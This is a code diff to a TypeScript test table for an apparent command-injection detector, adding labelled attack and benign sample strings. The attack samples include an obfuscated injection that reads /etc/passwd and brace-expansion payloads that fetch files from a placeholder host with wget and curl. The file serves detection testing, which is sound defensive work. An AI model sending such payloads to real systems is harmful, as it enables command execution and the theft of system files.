@@ -195,6 +195,7 @@ const ROUND3: Record<string, Table> = {
       "('a' . 'b') is how you concatenate",
       "include the 'http://' prefix in the URL field",
       "PHP Warning:  include(/var/www/html/config.php): failed to open stream",
+      "roles = choose('user', 'system')",
     ],
   },
   "Windows living-off-the-land binaries": {
@@ -211,6 +212,7 @@ const ROUND3: Record<string, Table> = {
       "How do I use wmic to list processes?",
       "mshta.exe keeps crashing on startup",
       "regsvr32 failed with error 0x80070005",
+      "run wmic os get caption to see the version",
     ],
   },
   "Unix shell (round 3)": {
@@ -218,6 +220,7 @@ const ROUND3: Record<string, Table> = {
       ['&& mksh -c "uname -a"', "rce.shell-invocation"],
       ["&& {wget,http://x/a,-O,/tmp/a}", "rce.brace-expansion"],
       ["\n{curl,-s,http://x/p}", "rce.brace-expansion"],
+      [";c${u}at /e${u}tc/pa${u}sswd", "rce.command-injection"],
     ],
     benign: [
       'Traceback (most recent call last):\n  File "/usr/lib/python3.11/site-packages/app/main.py", line 12, in <module>',
